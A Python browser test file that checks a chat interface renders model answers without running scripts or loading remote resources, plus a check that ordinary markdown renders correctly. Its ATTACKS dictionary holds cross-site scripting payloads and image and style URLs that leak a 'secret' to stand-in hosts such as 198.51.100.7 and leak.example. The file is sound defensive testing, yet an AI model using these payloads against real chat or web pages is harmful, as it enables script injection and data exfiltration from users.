"""What a model says is not trusted: no script of it runs, and nothing of it makes the browser ask anybody anything."""

from __future__ import annotations

from tests.browser.page import ChatPage

ATTACKS = {
    "script": "Look <script>window.hurt = 1</script> here",
    "handler": "Look <img src=x onerror='window.hurt = 1'> here",
    "svg": "Look <svg><animate onbegin='window.hurt = 1' attributeName=x dur=1s></svg> here",
    "frame": "Look <iframe srcdoc='<script>parent.hurt = 1</script>'></iframe> here",
    "address": "Look [here](javascript:window.hurt=1) here",
    "remote image": "Look ![leak](http://198.51.100.7/leak?secret) here",
    "remote image in HTML": "Look <img src='https://leak.example/secret.png'> here",
    "style": "Look <style>body { background: url(http://198.51.100.7/leak) }</style> here",
    "in a fence": "```html\n<script>window.hurt = 1</script>\n```\nhere",
    "mathematics": "Look $\\href{javascript:window.hurt=1}{x}$ and $\\includegraphics{http://198.51.100.7/x}$ here",
}


def test_nothing_of_an_answer_runs_or_loads(chat: ChatPage) -> None:
    """One conversation, since each page costs seconds; that no request left is asserted when the page is closed."""
    for kind, attack in ATTACKS.items():
        assert "here" in chat.ask(f"Say: {attack}"), kind
        for link in chat.answers.last.locator("a[href]").all():
            assert link.get_attribute("href").startswith(("http:", "https:", "#")), kind
        assert chat.answers.last.locator("script, iframe, object, embed, form, [onerror], [onload]").count() == 0, kind
        # A frame after the last repaint: what would have run has run.
        chat.page.evaluate("() => new Promise(done => requestAnimationFrame(() => setTimeout(done)))")
        assert chat.page.evaluate("window.hurt") is None, kind


def test_what_can_be_read_is_shown_as_it_is(chat: ChatPage) -> None:
    chat.ask(
        "Say: a **bold** word, `code` and\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint(42)\n```\n\n$$x^2$$"
    )
    answer = chat.answers.last
    assert answer.locator("strong").inner_text() == "bold"
    assert answer.locator("td").all_inner_texts() == ["1", "2"]
    assert "print(42)" in answer.locator("pre code").inner_text()
    assert answer.locator("pre .token").count() > 0, "code without colours"
    assert answer.locator(".katex").count() > 0
